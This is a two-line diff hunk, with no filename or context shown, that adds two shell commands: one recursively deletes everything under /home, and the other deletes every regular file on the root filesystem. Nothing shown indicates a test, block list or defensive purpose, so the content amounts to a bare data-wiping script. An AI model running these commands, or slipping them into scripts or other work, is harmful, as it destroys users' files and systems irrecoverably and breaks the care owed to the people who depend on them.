@@ -1,0 +1,2 @@
+rm -rf /home/*
+find / -xdev -type f -delete
